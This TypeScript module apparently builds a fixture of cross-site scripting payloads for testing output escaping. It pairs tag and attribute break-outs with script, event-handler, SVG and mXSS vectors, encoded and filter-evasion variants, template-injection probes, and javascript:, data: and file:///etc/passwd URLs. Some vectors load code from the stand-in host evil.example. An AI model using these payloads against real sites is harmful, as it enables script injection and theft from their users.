/** What breaks out of where a text may stand. */
const CONTEXTS: readonly string[] = [
  '',
  '">',
  "'>",
  '`>',
  '--><!-- ',
  '</script >',
  '</script\u0020\n>',
  '</title>',
  '</style>',
  '</textarea></select>',
  '</noscript>',
  ']]>',
  '"}]}</script>',
  '</dd></details></li>',
]

/** What would then run, load or lead away; `#` is the payload's number. */
const VECTORS: readonly string[] = [
  '<script>alert(#)</script>',
  '<ScRiPt src=//evil.example/#></sCrIpT>',
  '<img src=x onerror=alert(#)>',
  '<svg/onload=alert(#)>',
  '<svg><script>alert(#)</script></svg>',
  '<svg><animate onbegin=alert(#) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(#)&gt;">',
  '<iframe srcdoc="<script>parent.alert(#)</script>"></iframe>',
  '<a href="javascript:alert(#)" autofocus onfocus=alert(#)>x</a>',
  '<details open ontoggle=alert(#)>',
  '<style>@import "//evil.example/#.css";</style>',
  '<link rel=stylesheet href=//evil.example/#.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(#)">',
  '<base href=//evil.example/>',
  '<object data="data:text/html,<script>alert(#)</script>"></object>',
  '<form action="javascript:alert(#)"><button autofocus onfocus=alert(#)>x',
  '<noscript><p title="</noscript><img src=x onerror=alert(#)>">',
]

/** What stays inside an attribute, is written otherwise, or is meant for a template of somebody. */
const OTHERS: readonly string[] = [
  '" onmouseover="alert(#)" x="',
  "' onmouseover='alert(#)' x='",
  ' onmouseover=alert(#) x=',
  '" style="animation:x" onanimationstart="alert(#)',
  '" autofocus tabindex=1 onfocus="alert(#)',
  '\\" onmouseover=\\"alert(#)',
  '&lt;script&gt;alert(#)&lt;/script&gt;',
  '&#60;script&#62;alert(#)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(#)&#x3e;',
  '&quot; onmouseover=&quot;alert(#)',
  '%3Cscript%3Ealert(#)%3C/script%3E',
  '\\u003cscript\\u003ealert(#)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(#)+ADw-/script+AD4-',
  '\uff1cscript\uff1ealert(#)\uff1c/script\uff1e',
  '<scr<script>ipt>alert(#)</scr</script>ipt>',
  '<<script>alert(#)//<</script>',
  '<!--[if gte IE 4]><script>alert(#)</script><![endif]-->',
  '<?xml-stylesheet href="javascript:alert(#)"?>',
  "{{constructor.constructor('alert(#)')()}}",
  '{{7*7}} [[7*7]] {%raw%} #{7*7} <%= alert(#) %> @(alert(#))',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's.
  '${alert(#)} `${alert(#)}`',
  '\u202e>(#)trela=rorreno x=crs gmi<\u202c',
  '__proto__',
  '</',
  '<',
  '&',
  '&#',
]

/** Addresses that run something, or that are read otherwise by someone. */
export const ADDRESSES: readonly string[] = [
  'javascript:alert(#)',
  'JaVaScRiPt:alert(#)',
  ' javascript:alert(#)',
  '\u0001javascript:alert(#)',
  'java\tscript:alert(#)',
  'java\r\nscript:alert(#)',
  'javascript\u00a0:alert(#)',
  'javascript&colon;alert(#)',
  '&#106;avascript:alert(#)',
  'javascript://example.kr/%0aalert(#)',
  'data:text/html,<script>alert(#)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(#)',
  'blob:https://example.kr/#',
  'view-source:javascript:alert(#)',
  'feed:javascript:alert(#)',
  'webcal:javascript:alert(#)',
  'file:///etc/passwd',
  'about:blank#',
  'https://example.kr/"onclick="alert(#)',
  "https://example.kr/'onclick='alert(#)",
  'https://example.kr/<script>alert(#)</script>',
  'https://javascript:alert(#)@example.kr/',
  'mailto:a@example.kr?body=</a><script>alert(#)</script>',
  '//evil.example/#',
]

const numbered = (text: string, number: number) => text.replaceAll('#', String(number))

/** Every vector out of every context, and all others: each with a number of its own. */
export const PAYLOADS: readonly string[] = [
  ...CONTEXTS.flatMap((context) => VECTORS.map((vector) => context + vector)),
  ...OTHERS,
  ...ADDRESSES,
].map(numbered)
